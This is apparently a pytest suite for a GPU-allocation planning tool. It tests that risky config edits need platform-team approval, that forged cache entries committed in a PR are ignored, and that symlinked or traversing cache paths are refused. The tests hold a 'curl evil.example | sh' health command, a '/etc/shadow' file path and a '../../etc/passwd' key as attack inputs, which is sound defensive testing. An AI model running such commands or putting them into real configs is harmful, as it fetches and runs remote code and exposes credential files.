"""Issue 14, items 1-4, attacked again on real git repositories in temp folders."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any, get_args, get_origin

import pytest
from pydantic import BaseModel

from allotment.cli.main import main
from allotment.config.kinds import KINDS
from allotment.plan.filediff import NODE_DIFF_FIELDS, file_changes, shown
from allotment.plan.simcache import SimCache, choose_cache
from tests.plan.gitrepo import GitRepo

C1 = "inventory/clusters/c1.yaml"
GPU_TYPES = "inventory/gpu_types.yaml"


def plan_json(repo: GitRepo, *extra: str, env: dict[str, str] | None = None) -> tuple[int, dict[str, Any]]:
    out = repo.path.parent / "plan.json"
    out.unlink(missing_ok=True)
    code = main(["plan", "--repo", str(repo.path), "--base", "main", "--head", "pr",
                 "--at", "2026-01-02", "--format", "json", "--out", str(out), *extra])
    return code, json.loads(out.read_text()) if out.exists() else {}


def audit_json(repo: GitRepo, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    capsys.readouterr()
    code = main(["audit", "--repo", str(repo.path), "--format", "json"])
    return code, json.loads(capsys.readouterr().out)


# ---- 1. every field of every file kind is diffed ----------------------------------------------


@pytest.mark.parametrize(
    ("path", "edit", "field"),
    [
        (C1, {"health_command": "/usr/bin/curl evil.example | sh"}, "health_command"),
        (C1, {"health_file": "/etc/shadow"}, "health_file"),
        (GPU_TYPES, None, "gpu_types.h100.billing_weight"),
    ],
)
def test_a_change_the_reconciler_executes_or_charges_needs_the_platform_team(
    small_repo: GitRepo, capsys: pytest.CaptureFixture[str], path: str,
    edit: dict[str, str] | None, field: str,
) -> None:
    small_repo.switch("pr", create=True)
    if edit is None:
        small_repo.edit_yaml(path, lambda d: d["gpu_types"]["h100"].update({"billing_weight": 3.0}))
    else:
        small_repo.edit_yaml(path, lambda d: d.update(edit))
    small_repo.commit("harmless", author="eve@acme.example")
    code, doc = plan_json(small_repo, "--no-simulate")
    assert code == 0
    assert field in [f["field"] for f in doc["diff"]["fields"]]
    assert [a["node"] for a in doc["approvals"]] == ["(platform team)"]
    assert doc["approvals"][0]["owners"] == ["pat@acme.example"]
    assert "platform team" in doc["verdict"] and field.split(".")[-1] in doc["verdict"]
    # and audit, after a merge nobody approved, says so
    small_repo.switch("main")
    small_repo.merge("pr", "Merge pr\n\nno approvals")
    code, report = audit_json(small_repo, capsys)
    assert code == 1
    assert report["commits"][-1]["ok"] is False


def _leaf_fields(model: type[BaseModel], prefix: str = "") -> list[str]:
    """Every leaf field path of a model, ``*`` for dict keys and list items."""
    out: list[str] = []
    for name, info in model.model_fields.items():
        path = f"{prefix}{name}"
        ann: Any = info.annotation
        nested = _model_in(ann)
        if nested is None:
            out.append(path)
        else:
            star = ".*." if get_origin(_strip_none(ann)) is dict else "."
            out += _leaf_fields(nested, path + star)
    return out


def _strip_none(ann: Any) -> Any:
    args = [a for a in get_args(ann) if a is not type(None)]
    return args[0] if get_origin(ann) is not None and len(args) == 1 and type(None) in get_args(ann) else ann


def _model_in(ann: Any) -> type[BaseModel] | None:
    ann = _strip_none(ann)
    if isinstance(ann, type) and issubclass(ann, BaseModel):
        return ann
    for a in get_args(ann):
        if isinstance(a, type) and issubclass(a, BaseModel):
            return a
    return None


def test_the_budget_diff_hides_only_fields_it_shows_itself_and_they_all_exist() -> None:
    budget_fields = set(_leaf_fields(KINDS["budget"]))
    for pattern in NODE_DIFF_FIELDS - {"children.*"}:
        assert pattern in budget_fields, f"{pattern} is not a field of budget.yaml any more"
    # every model field of every kind is either shown by filediff or by the budget diff
    assert {f for f in budget_fields if f not in NODE_DIFF_FIELDS} >= {
        "description", "default_for", "children.*.description"
    }
    for kind, model in KINDS.items():
        assert _leaf_fields(model), kind


def test_every_scalar_field_change_of_a_cluster_file_shows() -> None:
    """Change each top-level field of a cluster file in turn: each one is in the diff."""
    base = b"node_groups:\n  - {name: main, gpu_type: h100, gpus_per_node: 8, nodes: 'c1-n[01-04]'}\n"
    edits = {
        "description": b"description: x\n",
        "health_file": b"health_file: /x\n",
        "health_command": b"health_command: /bin/x\n",
    }
    fields = set(_leaf_fields(KINDS["cluster"]))
    assert set(edits) <= fields
    for field, extra in edits.items():
        changes = shown(file_changes({C1: base}, {C1: base + extra}))
        assert [c.field for c in changes] == [field]


# ---- 2. the simulation cache is outside anything a PR controls --------------------------------


def test_a_cache_entry_committed_in_the_pr_is_never_read(
    small_repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CI", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    small_repo.switch("pr", create=True)
    small_repo.edit_yaml("budgets/acme/ml/budget.yaml",
                         lambda d: d["children"]["vision"].update({"max_gpus": 1}))
    forged = {"teams": {"vision": {"delivered": 1e9}}, "days": 1}
    for key_dir in (".allot-cache/plan", "cache/plan"):
        for i in range(3):
            small_repo.write(f"{key_dir}/{i:064x}.json", json.dumps({"key": f"{i:064x}", "metrics": forged}))
    small_repo.commit("cap vision, and a forged cache", author="eve@acme.example")
    code, doc = plan_json(small_repo, "--days", "0.5", "--seeds", "1,2")
    assert code == 0
    assert doc["impact"]["cached_runs"] == 0
    assert all(t["delivered_gpu_hours_week_before"] < 1e6 for t in doc["impact"]["teams"])
    assert list((tmp_path / "xdg" / "allotment" / "plan").glob("*.json"))  # default location
    assert not (small_repo.path / ".allot-cache" / "plan" / "x").exists()
    assert small_repo.git("status", "--porcelain") == ""
    code, again = plan_json(small_repo, "--days", "0.5", "--seeds", "1,2")
    assert again["impact"]["cached_runs"] == 4


def test_a_cache_folder_inside_the_checkout_is_refused(small_repo: GitRepo) -> None:
    choice = choose_cache(small_repo.path / "cache", small_repo.path, {})
    assert choice.folder is None and "inside the repository" in choice.note


def test_ci_does_not_trust_a_cache_unless_told_to(tmp_path: Path) -> None:
    assert choose_cache(None, None, {"CI": "true", "HOME": str(tmp_path)}).folder is None
    assert choose_cache(tmp_path / "c", None, {"CI": "true"}).folder == tmp_path / "c"


def test_an_entry_for_other_inputs_or_another_version_is_ignored(tmp_path: Path) -> None:
    cache = SimCache(tmp_path)
    key, other = "a" * 64, "b" * 64
    cache.put(key, {"teams": {}})
    assert cache.get(key) == {"teams": {}}
    (tmp_path / "plan" / f"{other}.json").write_text(json.dumps({"key": key, "metrics": {"x": 1}}))
    assert cache.get(other) is None  # stored key differs from its name
    assert cache.get("../../etc/passwd") is None


def test_a_symlinked_cache_folder_is_not_written_through(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "cache").mkdir()
    os.symlink(outside, tmp_path / "cache" / "plan")
    assert choose_cache(tmp_path / "cache", None, {}).folder is None
    os.symlink(outside, tmp_path / "link")
    assert choose_cache(tmp_path / "link", None, {}).folder is None
    cache = SimCache(tmp_path / "cache")  # even when used directly
    cache.put("c" * 64, {"teams": {}})
    assert list(outside.iterdir()) == []
    target = tmp_path / "victim"
    target.write_text("keep")
    (tmp_path / "real" / "plan").mkdir(parents=True)
    os.symlink(target, tmp_path / "real" / "plan" / f"{'d' * 64}.json")
    assert SimCache(tmp_path / "real").get("d" * 64) is None  # a symlinked entry is not read
    SimCache(tmp_path / "real").put("d" * 64, {"teams": {}})
    assert target.read_text() == "keep"  # the link was replaced, its target untouched


# ---- 4. a big PR gets a bounded comment in time -------------------------------------------------


def test_3000_new_teams_give_a_bounded_comment_and_skip_the_simulation_in_time(
    small_repo: GitRepo,
) -> None:
    small_repo.switch("pr", create=True)
    kids = "".join(f"  t{i:04d}:\n    share: 1\n" for i in range(3000))
    small_repo.write("budgets/acme/infra/budget.yaml", "owners: [infra@acme.example]\nchildren:\n" + kids)
    for i in range(3000):
        small_repo.write(f"budgets/acme/infra/t{i:04d}/budget.yaml", f"owners: [o{i}@acme.example]\nmembers: [u{i}]\n")
    small_repo.commit("3000 teams", author="eve@acme.example")
    out = small_repo.path.parent / "plan.md"
    t = time.perf_counter()
    code = main(["plan", "--repo", str(small_repo.path), "--base", "main", "--head", "pr",
                 "--at", "2026-01-02", "--out", str(out)])
    elapsed = time.perf_counter() - t
    md = out.read_text()
    assert code in (0, 1)
    assert len(md) <= 65_536
    assert "not simulated: 3,002 teams" in md
    assert "_(none)_" not in md
    assert "cut to fit GitHub's limit" in md.split("####", 1)[0]
    assert elapsed < 15 * 60


# ---- 13. --out is checked before any work --------------------------------------------------------


def test_out_in_a_missing_folder_is_a_clean_usage_error_before_any_work(
    small_repo: GitRepo, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    t = time.perf_counter()
    code = main(["plan", "--repo", str(small_repo.path), "--base", "main",
                 "--out", str(tmp_path / "missing" / "dir" / "plan.md")])
    assert code == 2
    assert time.perf_counter() - t < 5  # nothing was simulated
    err = capsys.readouterr().err
    assert "missing/dir" in err and "does not exist" in err and "Traceback" not in err
    assert err.count("\n") == 1
